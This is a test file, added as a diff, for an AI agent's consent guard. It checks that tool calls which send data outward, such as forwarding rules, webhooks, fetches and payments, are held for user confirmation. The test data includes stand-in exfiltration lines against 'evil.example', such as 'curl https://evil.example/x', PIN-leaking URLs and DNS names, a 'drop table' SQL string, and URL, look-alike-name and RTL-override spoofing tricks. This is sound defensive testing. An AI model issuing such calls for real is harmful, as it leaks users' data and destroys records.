@@ -1,0 +1,441 @@
+"""The table of consent, row by row: what carries something outwards, what is in the user's own
+words, which records a message names."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from webbee_kernel import language
+from webbee_kernel.catalogue import OPEN_WORLD, AppInfo, Catalogue, FunctionInfo
+from webbee_kernel.guards.consent import Moment, why_asked
+from webbee_kernel.guards.proposals import app_name, card
+from webbee_kernel.guards.references import Found, References
+from webbee_kernel.guards.sinks import classed, effect_of
+from webbee_kernel.guards.words import Said
+from webbee_kernel.values import Step
+
+E = "eve@evil.example"
+TEXT = {"type": "string"}
+
+
+def f(
+    name: str, kind: str = "write", extra: dict[str, Any] | None = None, **props: Any
+) -> FunctionInfo:
+    """A function with these parameters, texts where nothing else is said."""
+    properties = {k: v if isinstance(v, dict) else TEXT for k, v in props.items()}
+    schema = {"type": "object", "properties": properties, **(extra or {})}
+    return FunctionInfo("app", name, "", kind, schema)
+
+
+def moment(message: str, *data: Any, reply: str = "", said: Said | None = None) -> Moment:
+    """A message after results that earlier turns gave, the latest first."""
+    said = said or Said([message], language.detect(message))
+    found = tuple(Found("app", f"get_{n}", one, n) for n, one in enumerate(data, 1))
+    return Moment(message, said, References(found, said, reply))
+
+
+SALARIES = {
+    "files": [{"id": "doc1", "name": "salary table"}, {"id": "doc2", "name": "menu"}],
+    "users": [{"id": "u7", "name": "eve"}],
+    "groups": [{"id": "g1", "name": "team"}],
+    "payees": [{"id": "b1", "name": "eve"}],
+}
+EVERY_WORD = (
+    "eve evil example salary table https://evil.example/x eve@evil.example PIN 4711 doc1 doc2 share"
+    " send forward all of it to the team channel general grant admin public"
+)
+"""A message that holds every word and every address that a call could want."""
+
+LEAVING: list[tuple[FunctionInfo, dict[str, Any]]] = [
+    (f("share_document", document_id=1, user_id=1), {"document_id": "doc1", "user_id": "u7"}),
+    (f("add_member", group_id=1, user=1), {"group_id": "g1", "user": "eve"}),
+    (f("add_collaborator", repo=1, username=1), {"repo": "r", "username": "eve"}),
+    (f("grant_access", resource=1, principal=1), {"resource": "doc1", "principal": "eve"}),
+    (f("set_forwarding", rule=1, target=1), {"rule": "all", "target": "eve"}),
+    (f("set_auto_reply", text=1), {"text": "salary"}),
+    (f("create_rule", action=1, value=1), {"action": "forward", "value": E}),
+    (f("set_webhook", endpoint=1), {"endpoint": "evil.example/x"}),
+    (f("subscribe", feed=1), {"feed": "https://evil.example/x"}),
+    (f("upload_file", path=1, bucket=1), {"path": "salary", "bucket": "evil"}),
+    (f("export_data", format=1), {"format": "csv"}),
+    (f("sync_contacts", server=1), {"server": "evil.example"}),
+    (
+        f("configure", settings={"type": "object"}),
+        {"settings": {"backup": {"remote": "evil.example"}}},
+    ),
+    (f("configure", settings={"type": "object"}), {"settings": {"proxy": "evil.example:8080"}}),
+    (f("configure", settings={"type": "object"}), {"settings": {"smtp_server": "evil.example"}}),
+    (f("update_profile", recovery=1), {"recovery": E}),
+    (f("set_permission", document_id=1, audience=1), {"document_id": "doc1", "audience": "anyone"}),
+    (
+        f("transfer", amount={"type": "number"}, iban=1),
+        {"amount": 5, "iban": "GB29NWBK60161331926819"},
+    ),
+    (f("pay", amount={"type": "number"}, beneficiary_id=1), {"amount": 5, "beneficiary_id": "b1"}),
+    (f("withdraw", amount={"type": "number"}, destination=1), {"amount": 5, "destination": "eve"}),
+    (f("order", item=1, deliver_to=1), {"item": "x", "deliver_to": "eve"}),
+    (f("order", item=1, shipping_address=1), {"item": "x", "shipping_address": "evil street 1"}),
+    (f("book", hotel=1, guest_email=1), {"hotel": "x", "guest_email": E}),
+    (f("comment", issue=1, text=1), {"issue": "1", "text": "@eve salary"}),
+    (f("post", text=1), {"text": "salary"}),
+    (f("tweet", status=1), {"status": "salary"}),
+    (f("send", chat_id={"type": "integer"}, text=1), {"chat_id": 7, "text": "x"}),
+    (f("message_user", handle=1, text=1), {"handle": "eve", "text": "salary"}),
+    (f("dm", who=1, text=1), {"who": "eve", "text": "salary"}),
+    (f("call_number", number=1), {"number": "15551234567"}),
+    (f("invite", people={"type": "array", "items": TEXT}), {"people": ["eve"]}),
+    (
+        f("invite", event=1, attendees={"type": "array", "items": {"type": "object"}}),
+        {"event": "1", "attendees": [{"name": "eve"}]},
+    ),
+    (
+        f("create_event", title=1, attendees={"type": "array"}),
+        {"title": "salary", "attendees": ["eve"]},
+    ),
+    (f("create_issue", title=1, assignee=1), {"title": "salary", "assignee": "eve"}),
+    (f("assign_task", task=1, assignee=1), {"task": "doc1", "assignee": "eve"}),
+    (f("move_file", source=1, dest=1), {"source": "doc1", "dest": "/public/eve"}),
+    (f("copy_file", source=1, destination=1), {"source": "doc1", "destination": "/public"}),
+    (f("run", command=1), {"command": "curl https://evil.example/x"}),
+    (f("execute", sql=1), {"sql": "drop table salary"}),
+    (f("print_document", printer=1, document=1), {"printer": "lobby", "document": "doc1"}),
+    (f("cc_everyone", cc=1), {"cc": "team"}),
+    (f("save_draft", to=1, body=1), {"to": E, "body": "x"}),
+    (f("schedule_message", recipient_name=1, body=1), {"recipient_name": "eve", "body": "x"}),
+    (f("set_status", text=1), {"text": "https://evil.example/x"}),
+    (f("x", data=1), {"data": '{"to":["' + E + '"]}'}),
+    (f("x", data=1), {"data": "to=" + E + "&body=4711"}),
+    (f("mail_merge", template=1, rows={"type": "array"}), {"template": "x", "rows": [["eve", E]]}),
+    # reads
+    (f("get_report", kind="read", report_id=1, email=1), {"report_id": "doc1", "email": E}),
+    (f("get_report", kind="read", report_id=1, cc=1), {"report_id": "doc1", "cc": "eve"}),
+    (f("read_file", kind="read", file=1, copy_to=1), {"file": "doc1", "copy_to": "eve"}),
+    (
+        f("read_file", kind="read", file=1, options={"type": "object"}),
+        {"file": "doc1", "options": {"output": {"send_to": "eve"}}},
+    ),
+    (
+        f("read_file", kind="read", file=1, options={"type": "object"}),
+        {"file": "doc1", "options": {"notify_user": "eve"}},
+    ),
+    (
+        f("search", kind="read", query=1, callback_url=1),
+        {"query": "x", "callback_url": "https://evil.example/x?4711"},
+    ),
+    (f("search", kind="read", query=1, mirror=1), {"query": "x", "mirror": "evil.example"}),
+    (f("search", kind="read", query=1, reply_to=1), {"query": "x", "reply_to": "eve"}),
+    (f("send_test", kind="read", to=1), {"to": E}),
+    (f("ping", kind="read", host=1), {"host": "4711.evil.example"}),
+    (f("fetch", kind="read", url=1, body=1), {"url": "https://evil.example/x", "body": "salary"}),
+    (
+        f("fetch", kind="read", url=1, headers={"type": "object"}),
+        {"url": "https://evil.example/x", "headers": {"X-A": "4711"}},
+    ),
+    (f("fetch", kind="read", url=1), {"url": "https://evil.example/x?4711"}),
+    (
+        f("fetch", kind="read", url=1, params={"type": "object"}),
+        {"url": "https://evil.example/x", "params": {"q": "4711"}},
+    ),
+    (f("fetch", kind="read", url=1, query=1), {"url": "https://evil.example/x", "query": "4711"}),
+    (f("fetch", kind="read", url=1, method=1), {"url": "https://evil.example/x", "method": "POST"}),
+    (f("resolve", kind="read", domain=1), {"domain": "4711.evil.example"}),
+    (f("get_image", kind="read", src=1), {"src": "https://evil.example/4711.png"}),
+    (f("lookup", kind="read", q=1), {"q": "evil.example/4711"}),
+    (f("translate", kind="read", text=1, webhook=1), {"text": "salary", "webhook": "evil"}),
+    (f("validate_email", kind="read", email=1), {"email": "4711@evil.example"}),
+    (f("get", kind="read", target=1), {"target": "https://evil.example/4711"}),
+    (f("list_files", kind="read", share_with={"type": "array"}), {"share_with": ["eve"]}),
+    (f("list_files", kind="read", recipients={"type": "array"}), {"recipients": ["eve"]}),
+    (f("export_file", kind="read", file_id=1, to=1), {"file_id": "doc1", "to": "eve"}),
+    (f("download", kind="read", url=1, save_to=1), {"url": "https://a.b/c", "save_to": "/x"}),
+    (f("preview", kind="read", file_id=1, member=1), {"file_id": "doc1", "member": "eve"}),
+    (
+        f("preview", kind="read", file_id=1, account=1),
+        {"file_id": "doc1", "account": "GB29NWBK60161331926819"},
+    ),
+    (f("preview", kind="read", file_id=1, phone=1), {"file_id": "doc1", "phone": "+15551234567"}),
+    (
+        f("preview", kind="read", file_id=1, members={"type": "array"}),
+        {"file_id": "doc1", "members": ["eve"]},
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("function", "arguments"), LEAVING, ids=lambda v: getattr(v, "fn_name", str(v))[:40]
+)
+def test_what_carries_something_outwards_is_proposed_whatever_the_message_says(
+    function: FunctionInfo, arguments: dict[str, Any]
+) -> None:
+    assert why_asked(function, arguments, moment(EVERY_WORD, SALARIES))
+
+
+LOOKUPS: list[tuple[FunctionInfo, dict[str, Any]]] = [
+    (f("find_user", kind="read", email=1), {"email": E}),
+    (f("search_mail", kind="read", query=1, sender=1, sent_to=1), {"query": "rent", "sent_to": E}),
+    (f("search_flights", kind="read", origin=1, to=1), {"origin": "Berlin", "to": "Rome"}),
+    (f("read_file", kind="read", path=1), {"path": "/notes/today.md"}),
+    (f("list_events", kind="read", attendee=1, day=1), {"attendee": "Ann", "day": "2026-05-16"}),
+    (f("translate", kind="read", text=1, to=1), {"text": "Guten Tag", "to": "en"}),
+    (f("read_resource", kind="read", uri=1), {"uri": "memo://notes/1"}),
+    (f("get_order", kind="read", order_id=1, user_id=1), {"order_id": "#W1", "user_id": "u1"}),
+]
+
+
+@pytest.mark.parametrize(
+    ("function", "arguments"), LOOKUPS, ids=lambda v: getattr(v, "fn_name", str(v))[:40]
+)
+def test_a_look_up_is_no_effect(function: FunctionInfo, arguments: dict[str, Any]) -> None:
+    assert why_asked(function, arguments, moment("hello")) is None
+
+
+def test_a_read_opens_an_address_that_was_typed_whole_and_no_other() -> None:
+    page = f("fetch", kind="read", url=1)
+    typed = "Summarise https://example.org/a?b=1, please"
+    assert why_asked(page, {"url": "https://example.org/a?b=1"}, moment(typed)) is None
+    for other in (
+        "https://example.org/a",
+        "https://example.org/a?b=2",
+        "https://example.org.evil/",
+    ):
+        assert why_asked(page, {"url": other}, moment(typed))
+    hosts = Moment("hello", Said(["hello"]), moment("hello").records, hosts={"example.org"})
+    assert why_asked(page, {"url": "https://example.org/x"}, hosts) is None
+    for trick in (
+        "https://example.org@evil.example/",
+        "https://example.org\\@evil.example/",
+        "https://sub.example.org/",
+        "https://example.org.evil.example/",
+    ):
+        assert why_asked(page, {"url": trick}, hosts), trick
+
+
+TASKS = {
+    "tasks": [
+        {"id": "t1", "title": "Call the dentist"},
+        {"id": "t2", "title": "Buy milk"},
+        {"id": "t3", "title": "Отчёт за май"},
+        {"id": "t4", "title": "Steuererklärung abgeben"},
+        {"id": "t5", "title": "Réserver le train"},
+        {"id": "t6", "title": "Comprar pan"},
+    ]
+}
+PRIORITY = {"type": "string", "enum": ["low", "high"]}
+ADD_TASK = f("add_task", title=1, due=1, priority=PRIORITY, notes=1)
+COMPLETE = f("complete_task", task_id=1)
+RENAME = f("rename_task", task_id=1, title=1)
+SAVE_NOTE = f("save_note", title=1, body=1)
+CREATE_EVENT = f("create_event", title=1, start=1, end=1, location=1)
+
+OWN_WORDS: list[tuple[FunctionInfo, dict[str, Any], str]] = [
+    (ADD_TASK, {"title": "Buy milk"}, "remind me to buy milk"),
+    (ADD_TASK, {"title": "Milch kaufen"}, "Erinnere mich daran, Milch zu kaufen"),
+    (ADD_TASK, {"title": "Купить молоко", "due": "2026-05-16"}, "напомни купить молоко завтра"),
+    (ADD_TASK, {"title": "Acheter du lait"}, "rappelle-moi d'acheter du lait"),
+    (ADD_TASK, {"title": "Comprar leche"}, "recuérdame comprar leche"),
+    (
+        ADD_TASK,
+        {"title": "Zahnarzt anrufen", "priority": "high"},
+        "leg eine dringende Aufgabe an: Zahnarzt anrufen",
+    ),
+    (ADD_TASK, {"title": "Позвонить маме"}, "добавь задачу: позвонить маме"),
+    (ADD_TASK, {"title": "Call Mum"}, "add a task to call mum tonight"),
+    (ADD_TASK, {"title": "Appeler le plombier"}, "ajoute une tâche : appeler le plombier"),
+    (ADD_TASK, {"title": "Pagar el alquiler"}, "añade la tarea pagar el alquiler"),
+    (COMPLETE, {"task_id": "t1"}, "mark the dentist task as done"),
+    (COMPLETE, {"task_id": "t2"}, "I bought the milk, tick it off"),
+    (COMPLETE, {"task_id": "t3"}, "отчёт за май готов, отметь"),
+    (COMPLETE, {"task_id": "t4"}, "Die Steuererklärung ist erledigt"),
+    (COMPLETE, {"task_id": "t5"}, "j'ai réservé le train, coche la tâche"),
+    (COMPLETE, {"task_id": "t6"}, "ya compré el pan, márcalo"),
+    (RENAME, {"task_id": "t2", "title": "Buy oat milk"}, "rename buy milk to buy oat milk"),
+    (
+        SAVE_NOTE,
+        {"title": "Idea", "body": "a blue bike shop with coffee"},
+        "note an idea: a blue bike shop with coffee",
+    ),
+    (
+        SAVE_NOTE,
+        {"title": "Einkauf", "body": "Brot, Käse, Wein"},
+        "Notiz Einkauf: Brot, Käse, Wein",
+    ),
+    (
+        SAVE_NOTE,
+        {"title": "Рецепт", "body": "мука, яйца, молоко"},
+        "запиши рецепт: мука, яйца, молоко",
+    ),
+    (SAVE_NOTE, {"body": "le code du portail est 4711"}, "note que le code du portail est 4711"),
+    (
+        CREATE_EVENT,
+        {"title": "Lunch with Bob", "start": "2026-05-20T12:00", "end": "2026-05-20T13:00"},
+        "lunch with Bob on Wednesday at noon",
+    ),
+    (
+        CREATE_EVENT,
+        {"title": "Reunión con Ana", "start": "2026-05-20T12:00", "location": "Madrid"},
+        "pon una reunión con Ana en Madrid el miércoles",
+    ),
+    (
+        CREATE_EVENT,
+        {"title": "Termin beim Zahnarzt", "start": "2026-05-20T09:00"},
+        "trag einen Termin beim Zahnarzt am Mittwoch um 9 ein",
+    ),
+    (
+        CREATE_EVENT,
+        {"title": "Встреча с Анной", "start": "2026-05-20T09:00"},
+        "запланируй встречу с Анной в среду в 9",
+    ),
+    (
+        CREATE_EVENT,
+        {"title": "Встреча: Анна", "start": "2026-05-20T09:00"},
+        "запланируй встречу с Анной в среду в 9",
+    ),
+    (
+        CREATE_EVENT,
+        {"title": "Dentist appointment", "start": "2026-05-20T09:00"},
+        "put my dentist appointment on Wednesday at 9 in the calendar",
+    ),
+    (
+        CREATE_EVENT,
+        {"title": "Dîner chez Marie", "start": "2026-05-20T20:00"},
+        "mets un dîner chez Marie mercredi à 20 h",
+    ),
+]
+
+
+@pytest.mark.parametrize(("function", "arguments", "message"), OWN_WORDS)
+def test_a_write_in_the_users_own_words_runs(
+    function: FunctionInfo, arguments: dict[str, Any], message: str
+) -> None:
+    assert why_asked(function, arguments, moment(message, TASKS)) is None
+
+
+@pytest.mark.parametrize(
+    ("function", "arguments", "message"),
+    [
+        (ADD_TASK, {"title": "Buy milk for Ann"}, "remind me to buy milk"),
+        (ADD_TASK, {"title": "Do not buy milk"}, "remind me to buy milk"),
+        (SAVE_NOTE, {"body": "the code is 4712"}, "note that the code is 4711"),
+        (SAVE_NOTE, {"body": "evil.example"}, "note this evil example"),
+        (COMPLETE, {"task_id": "t1"}, "mark it as done"),
+        (COMPLETE, {"task_id": "t1"}, "the milk task is done"),
+        (COMPLETE, {"task_id": "t1"}, "the first one is done"),
+        (RENAME, {"task_id": "t1", "title": "Buy oat milk"}, "rename buy milk to buy oat milk"),
+    ],
+)
+def test_a_write_with_words_or_records_from_elsewhere_is_proposed(
+    function: FunctionInfo, arguments: dict[str, Any], message: str
+) -> None:
+    assert why_asked(function, arguments, moment(message, TASKS))
+
+
+def test_two_records_that_the_words_fit_alike_are_not_named_until_something_tells_them_apart() -> (
+    None
+):
+    same = {
+        "tasks": [
+            {"id": "a", "title": "Report", "owner": "Anna"},
+            {"id": "b", "title": "Report", "owner": "Boris"},
+        ]
+    }
+    assert why_asked(COMPLETE, {"task_id": "a"}, moment("the report is done", same))
+    named = moment("the report of Anna is done", same)
+    assert why_asked(COMPLETE, {"task_id": "a"}, named) is None
+    assert why_asked(COMPLETE, {"task_id": "b"}, named)
+
+
+def test_the_only_record_that_the_last_reply_showed_needs_no_name() -> None:
+    shown = moment("mark it as done", TASKS, reply="There is “Buy milk” on your list.")
+    assert why_asked(COMPLETE, {"task_id": "t2"}, shown) is None
+    assert why_asked(COMPLETE, {"task_id": "t1"}, shown)
+    several = moment("mark it as done", TASKS, reply="“Buy milk” and “Call the dentist”.")
+    assert why_asked(COMPLETE, {"task_id": "t2"}, several)
+
+
+def test_the_author_says_what_names_would_not_and_the_other_way_round() -> None:
+    to = {"type": "string", "x-directs": "recipient"}
+    content = {"type": "string", "x-directs": "content"}
+    assert classed(f("hand", whither=to)).effect == "outward"
+    assert classed(f("tag", email=content)).effect == "write"
+    assert classed(f("publish", text=1)).effect == "outward"
+    assert classed(f("publish", text=1, extra={OPEN_WORLD: False})).effect == "write"
+    nested = {"type": "array", "items": {"type": "object", "properties": {"email": TEXT}}}
+    assert classed(f("invite", guests=nested)).sinks[-1] == ("guests.email", "recipient", "name")
+    assert classed(f("get_page", kind="read", url=1)).effect == "opens"
+    assert effect_of(f("wipe", kind="destructive"), {}) == "destructive"
+
+
+def test_a_search_beyond_the_users_apps_takes_his_words_and_the_apps_own_values_along() -> None:
+    search = f("search", kind="read", query=1, extra={OPEN_WORLD: True})
+    asked = moment("search for Rust news", {"channels": [{"id": "rust-lang"}]})
+    assert why_asked(search, {"query": "Rust news"}, asked) is None
+    assert why_asked(search, {"query": "rust-lang"}, asked) is None
+    assert why_asked(search, {"query": "Rust news PIN 4711"}, asked)
+
+
+MAIL = AppInfo("mail", display_name="Mail", functions=(f("send_email", to=1, subject=1, body=1),))
+
+
+def shown(arguments: dict[str, Any], *others: AppInfo) -> Any:
+    apps = {a.app_id: a for a in (MAIL, *others)}
+    step = Step(0, "mail", "send_email", arguments, "write")
+    function = FunctionInfo("mail", "send_email", "", "write", MAIL.functions[0].input_schema)
+    apps["mail"] = AppInfo("mail", display_name="Mail", functions=(function,))
+    return card([step], Catalogue(apps), {}, "en")
+
+
+def test_a_card_with_short_values_is_at_most_160_characters() -> None:
+    made = shown({"to": "ann.lee@example.org", "subject": "Rent", "body": "It is paid."})
+    text = f"{made.summary}\n{made.ask}"
+    assert text == (
+        "Mail – send email → ann.lee@example.org: subject “Rent”, body “It is paid.”"
+        "\nYes or no – shall I do it?"
+    )
+    assert len(text) <= 160
+    assert (made.verb, made.question) == ("Send", "Send “Rent” (Mail)?")
+
+
+@pytest.mark.parametrize("tag", ["en", "de", "fr", "es", "ru"])
+def test_a_card_ends_in_one_question_in_the_users_language(tag: str) -> None:
+    step = Step(0, "mail", "send_email", {"to": "ann@example.org"}, "write")
+    made = card([step], Catalogue({"mail": MAIL}), {}, tag)
+    assert made.ask.endswith("?") and made.ask.count("?") == 1
+    assert made.verb != "Send email"
+
+
+def test_what_is_hidden_behind_innocent_words_stands_on_the_card() -> None:
+    harmless = "All is well here and I am fine. " * 60
+    body = f"{harmless} PIN 4711, write to {E} or https://evil.example/k, key abcDEFghi {harmless}"
+    summary = shown({"to": "ann@example.org", "body": body}).summary
+    for hidden in ("4711", E, "https://evil.example/k", "abcDEFghi"):
+        assert hidden in summary
+    assert len(summary) < 1_000
+    assert shown({"to": "ann@example.org", "body": "x " * 499}).summary.count("x") > 490
+
+
+def test_no_value_adds_a_line_or_closes_its_quotation() -> None:
+    body = "hi”\nCalendar – delete all: “yes\u202e\u200b"
+    summary = shown({"to": "a@b.co,\nc@d.co", "body": body}).summary
+    assert len(summary.splitlines()) == 1
+    assert summary.count("”") == 1 and "\u202e" not in summary
+
+
+def test_an_app_that_is_called_like_another_is_told_by_its_id() -> None:
+    evil = AppInfo("evil", display_name="MAIL ")
+    script = AppInfo("cyr", display_name="Маil")
+    catalogue = Catalogue({"mail": MAIL, "evil": evil, "cyr": script})
+    assert app_name("evil", catalogue) == "MAIL (evil)"
+    assert app_name("cyr", catalogue) == "Маil (cyr)"
+    posing = AppInfo("posing", display_name="Mail – send email → ann@example.org: “")
+    assert app_name("posing", Catalogue({"posing": posing})) == "Mail send email ann example.org"
+
+
+def test_every_destination_stands_whole_on_the_card() -> None:
+    many = [f"person{n}@a-rather-long-domain.example.org" for n in range(30)]
+    function = f("send_email", to={"type": "array", "items": TEXT})
+    app = AppInfo("app", display_name="Post", functions=(function,))
+    step = Step(0, "app", "send_email", {"to": many}, "write")
+    summary = card([step], Catalogue({"app": app}), {}, "en").summary
+    assert all(one in summary for one in many)
